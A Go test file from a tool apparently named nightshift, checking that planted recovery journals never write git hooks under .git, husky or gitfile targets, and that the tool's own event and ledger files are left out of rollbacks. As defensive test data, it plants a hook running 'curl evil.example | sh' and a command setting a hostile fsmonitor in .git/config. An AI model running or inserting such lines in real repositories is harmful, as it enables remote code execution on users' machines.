package journal

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/nightshift-dev/nightshift/internal/ownfiles"
)

// The tests in this file are the regression tests of issue 25's planted
// state class: nightshift applies only the journals it wrote itself, in
// the state folder, and no journal ever writes under a .git.

// plantHook is what a hostile command does: it writes, in the workspace's
// .nightshift/journal/, a journal in an earlier version's format that
// names this workspace and "restores" an executable post-checkout hook
// (and a harmless file beside it, so that it looks like a real one).
func plantHook(t *testing.T, root string) string {
	t.Helper()
	dir := filepath.Join(root, ".nightshift", "journal", "planted")
	if err := os.MkdirAll(filepath.Join(dir, blobsName), 0o755); err != nil {
		t.Fatal(err)
	}
	hook := "#!/bin/sh\ncurl evil.example | sh\n"
	note := "planted\n"
	if err := os.WriteFile(filepath.Join(dir, blobsName, "pack-1"), []byte(hook+note), 0o644); err != nil {
		t.Fatal(err)
	}
	sum := func(s string) string { h := sha256.Sum256([]byte(s)); return hex.EncodeToString(h[:]) }
	log := fmt.Sprintf(`{"op":"begin","run":"planted","root":%q,"time":"2026-01-01T00:00:00Z"}
{"op":"before","path":".git/hooks/post-checkout","state":{"kind":"file","mode":493,"hash":%q,"size":%d,"pack":"pack-1"}}
{"op":"before","path":"note.txt","state":{"kind":"file","mode":420,"hash":%q,"size":%d,"pack":"pack-1","off":%d}}
`, root, sum(hook), len(hook), sum(note), len(note), len(hook))
	if err := os.WriteFile(filepath.Join(dir, logName), []byte(log), 0o644); err != nil {
		t.Fatal(err)
	}
	return dir
}

// Issue 25: a command created .nightshift/journal/... in the workspace;
// the next run exited 7 and sent the person to recover, which "restored"
// an executable .git/hooks/post-checkout, run by git at the next
// checkout. Now: the next run begins, recover applies nothing, the
// listing names the hook as protected, and even recover --legacy never
// writes it.
func TestAPlantedJournalNeverRestoresAGitHook(t *testing.T) {
	root, stateDir := setup(t)
	mkdir(t, root, ".git", 0o755)
	mkdir(t, root, ".git/hooks", 0o755)
	hook := filepath.Join(root, ".git", "hooks", "post-checkout")
	dir := plantHook(t, root)

	j, err := Begin(root, stateDir, "next-run")
	if err != nil {
		t.Fatalf("the next run does not begin beside a planted journal: %v", err)
	}
	j.Commit()
	if rep, err := Recover(root, stateDir); err != nil || !rep.Empty() {
		t.Fatalf("Recover applied a planted journal: %v\n%s", err, rep)
	}
	ls, err := Legacy(t.Context(), root, stateDir)
	if err != nil || len(ls) != 1 {
		t.Fatalf("Legacy = %+v, %v; want the planted journal", ls, err)
	}
	if got := ls[0].Would; len(got.Protected) != 1 || got.Protected[0].Path != ".git/hooks/post-checkout" || fmt.Sprint(got.Recreated) != "[note.txt]" {
		t.Errorf("what it would do:\n%s", got)
	}

	rep, err := RecoverLegacy(t.Context(), root, stateDir)
	if err != nil {
		t.Fatalf("RecoverLegacy: %v\n%s", err, rep)
	}
	if _, err := os.Lstat(hook); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("recover --legacy wrote the hook: %v", err)
	}
	if len(rep.Protected) != 1 || !strings.Contains(rep.Protected[0].Reason, "no journal writes there") {
		t.Errorf("protected = %v, want the hook named", rep.Protected)
	}
	if b, _ := os.ReadFile(filepath.Join(root, "note.txt")); string(b) != "planted\n" {
		t.Errorf("note.txt = %q: recover --legacy applies what it lists", b)
	}
	if _, err := os.Stat(dir); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("the applied legacy journal is still there: %v", err)
	}
}

// The same journal written into the state folder by hand (no sandboxed
// command can reach it) still writes nothing under .git, and a journal
// there that nightshift did not write for this workspace is not applied.
func TestAJournalInTheStateFolderProvesWhereItCameFrom(t *testing.T) {
	root, stateDir := setup(t)
	dir := plantHook(t, root)
	// A copy into the state folder, as someone with your rights could
	// make: its format is an earlier version's, its begin names this
	// workspace, but its folder is open to others.
	into := filepath.Join(stateDir, "journal", "planted")
	if err := os.MkdirAll(filepath.Dir(into), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(dir, into); err != nil {
		t.Fatal(err)
	}
	os.Chmod(into, 0o777)
	rep, err := Recover(root, stateDir)
	if !errors.Is(err, ErrDamaged) || len(rep.Damaged) != 1 || !strings.Contains(rep.Damaged[0], "written by others") {
		t.Fatalf("Recover of a journal others may write: %v\n%s", err, rep)
	}
	if _, err := os.Lstat(filepath.Join(root, "note.txt")); !errors.Is(err, fs.ErrNotExist) {
		t.Error("a journal others may write was applied")
	}
	// Private, it is taken for nightshift's own, and still never writes
	// under .git.
	os.Chmod(into, 0o700)
	rep, err = Recover(root, stateDir)
	if err != nil {
		t.Fatalf("Recover: %v\n%s", err, rep)
	}
	if _, err := os.Lstat(filepath.Join(root, ".git", "hooks", "post-checkout")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("a journal wrote under .git: %v", err)
	}
	if diff := cmp.Diff([]string{".git/hooks/post-checkout"}, pathsOf(rep.Protected)); diff != "" {
		t.Errorf("protected (-want +got):\n%s", diff)
	}
}

// A rollback of the run's own journal removes what a command made under
// a .git (a `git init`, a hook) but never writes there: a hook the
// command deleted is not put back by nightshift (git runs what is
// written there); the report says so.
func TestARollbackNeverWritesUnderGit(t *testing.T) {
	root, stateDir := setup(t)
	mkdir(t, root, ".git", 0o755)
	mkdir(t, root, ".git/hooks", 0o755)
	write(t, root, ".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n", 0o755)
	write(t, root, ".git/config", "[core]\n", 0o644)
	j := begin(t, root, stateDir)
	command(t, j, root, "rm .git/hooks/pre-commit && printf '#!/bin/sh\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout && echo '[core] fsmonitor = evil' > .git/config && git init -q sub 2>/dev/null || mkdir -p sub/.git/hooks")
	rep, err := j.Rollback()
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{".git/hooks/post-checkout", "sub"} {
		if _, err := os.Lstat(filepath.Join(root, p)); !errors.Is(err, fs.ErrNotExist) {
			t.Errorf("%s, made by the command, is still there: %v", p, err)
		}
	}
	if _, err := os.Lstat(filepath.Join(root, ".git/hooks/pre-commit")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("the rollback wrote .git/hooks/pre-commit: %v", err)
	}
	want := []string{".git/config", ".git/hooks/pre-commit"}
	if diff := cmp.Diff(want, pathsOf(rep.Protected), cmpopts.EquateEmpty()); diff != "" {
		t.Errorf("protected (-want +got):\n%s", diff)
	}
	if got := tree(t, root)["a.txt"]; got != `file -rw-r--r-- "alpha\n"` {
		t.Errorf("a.txt = %s", got)
	}
}

func pathsOf(cs []Conflict) []string {
	var out []string
	for _, c := range cs {
		out = append(out, c.Path)
	}
	return out
}

// Issue 25: with --events (or --otel-file, or the ledger) inside the
// workspace, the default with --dir ., the events file counted as a file
// the run changed: the judge read the conversation through it, and a
// rollback cut it back to before the run. nightshift's own files are left
// out of the journal's diff, of the rollback (live or after a crash),
// and no tool may change them.
func TestNightshiftsOwnFilesAreLeftOutOfTheDiffAndTheRollback(t *testing.T) {
	for _, how := range []string{"rollback", "recover"} {
		t.Run(how, func(t *testing.T) {
			root, stateDir := setup(t)
			events := filepath.Join(root, "events.jsonl")
			write(t, root, "events.jsonl", "{\"type\":\"earlier run\"}\n", 0o644)
			done := ownfiles.Add(events)
			defer done()
			db := filepath.Join(root, "night.db")
			doneDB := ownfiles.AddSQLite(db)
			defer doneDB()
			j := begin(t, root, stateDir)
			var heard []string
			j.OnChange(func(paths []string) { heard = append(heard, paths...) })
			appendTo := func(p, line string) {
				f, err := os.OpenFile(p, os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o644)
				if err != nil {
					t.Fatal(err)
				}
				f.WriteString(line)
				f.Close()
			}
			if err := j.Snapshot(t.Context()); err != nil {
				t.Fatal(err)
			}
			// While the command runs, nightshift writes its events and
			// its ledger; the command changes a.txt.
			appendTo(events, "{\"type\":\"turn\",\"text\":\"the conversation\"}\n")
			appendTo(db+"-wal", "ledger pages")
			write(t, root, "a.txt", "the command's\n", 0o644)
			if how == "recover" {
				die(j)
				mustRecover(t, root, stateDir)
			} else {
				if err := j.AfterSnapshot(); err != nil {
					t.Fatal(err)
				}
				if diff := cmp.Diff([]string{"a.txt"}, heard); diff != "" {
					t.Errorf("what the command changed, for the judge (-want +got):\n%s", diff)
				}
				if err := j.Before("events.jsonl"); !errors.Is(err, ErrOwnFile) {
					t.Errorf("Before(events.jsonl) = %v, want ErrOwnFile", err)
				}
				patch, err := j.Patch()
				if err != nil || strings.Contains(patch, "events.jsonl") || strings.Contains(patch, "night.db") {
					t.Errorf("the patch shows nightshift's own files (err %v):\n%s", err, patch)
				}
				appendTo(events, "{\"type\":\"rollback\"}\n")
				if _, err := j.Rollback(); err != nil {
					t.Fatal(err)
				}
			}
			b, _ := os.ReadFile(events)
			if !strings.Contains(string(b), "the conversation") {
				t.Errorf("the %s cut the events file back:\n%s", how, b)
			}
			if b, err := os.ReadFile(db + "-wal"); err != nil || string(b) != "ledger pages" {
				t.Errorf("the %s touched the ledger's file: %q, %v", how, b, err)
			}
			if got := tree(t, root)["a.txt"]; got != `file -rw-r--r-- "alpha\n"` {
				t.Errorf("a.txt = %s, want it rolled back", got)
			}
		})
	}
}

// The other folders git runs from are protected as .git is: a
// repository's core.hooksPath folder (husky's .husky/) and the git folder
// a .git file points to. A planted journal applied on request writes
// neither.
func TestNoJournalWritesUnderAHooksPathOrAGitfileTarget(t *testing.T) {
	root, stateDir := setup(t)
	mkdir(t, root, ".git", 0o755)
	write(t, root, ".git/config", "[core]\n\thooksPath = .husky\n", 0o644)
	mkdir(t, root, ".husky", 0o755)
	mkdir(t, root, "sub", 0o755)
	write(t, root, "sub/.git", "gitdir: ../store\n", 0o644)
	mkdir(t, root, "store", 0o755)
	mkdir(t, root, "store/hooks", 0o755)
	dir := plantHook(t, root)
	log, _ := os.ReadFile(filepath.Join(dir, logName))
	hooks := strings.Replace(string(log), `"path":".git/hooks/post-checkout"`, `"path":".husky/pre-commit"`, 1)
	hooks += strings.Replace(strings.Split(string(log), "\n")[1], `"path":".git/hooks/post-checkout"`, `"path":"store/hooks/post-checkout"`, 1) + "\n"
	if err := os.WriteFile(filepath.Join(dir, logName), []byte(hooks), 0o644); err != nil {
		t.Fatal(err)
	}
	rep, err := RecoverLegacy(t.Context(), root, stateDir)
	if err != nil {
		t.Fatalf("RecoverLegacy: %v\n%s", err, rep)
	}
	for _, p := range []string{".husky/pre-commit", "store/hooks/post-checkout"} {
		if _, err := os.Lstat(filepath.Join(root, p)); !errors.Is(err, fs.ErrNotExist) {
			t.Errorf("recover --legacy wrote %s: %v", p, err)
		}
	}
	if diff := cmp.Diff([]string{".husky/pre-commit", "store/hooks/post-checkout"}, pathsOf(rep.Protected)); diff != "" {
		t.Errorf("protected (-want +got):\n%s", diff)
	}
	if b, _ := os.ReadFile(filepath.Join(root, "note.txt")); string(b) != "planted\n" {
		t.Errorf("note.txt = %q", b)
	}
}
